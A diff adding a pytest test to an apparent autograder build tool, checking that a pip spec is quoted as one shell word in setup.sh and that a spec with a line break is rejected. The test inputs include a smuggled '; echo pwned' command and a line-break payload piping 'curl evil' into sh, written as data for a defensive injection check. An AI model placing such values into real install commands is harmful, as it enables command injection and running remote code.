@@ -237,3 +237,18 @@ def test_hidden_visibility_hidden_is_the_one_that_hides_the_total():
     assert "scores.shapes" not in results["output"]
     with pytest.raises(ValueError):
         gradescope(document, "tomorrow")
+
+
+def test_a_pip_spec_is_one_quoted_shell_word(tmp_path):
+    """setup.sh installs --pip-spec as one shell word, and a spec with a line break (which would start a
+    command after setup.sh's comment that names it) is refused."""
+    import zipfile
+
+    from autograder.gradescope.build import BuildError, build
+
+    spec = "attention-autograder==0.1.0; echo pwned"
+    out = build(tmp_path / "a.zip", pip_spec=spec)
+    setup = zipfile.ZipFile(out).read("setup.sh").decode()
+    assert "install 'attention-autograder==0.1.0; echo pwned'" in setup
+    with pytest.raises(BuildError, match="line break"):
+        build(tmp_path / "b.zip", pip_spec="attention-autograder\ncurl evil | sh")
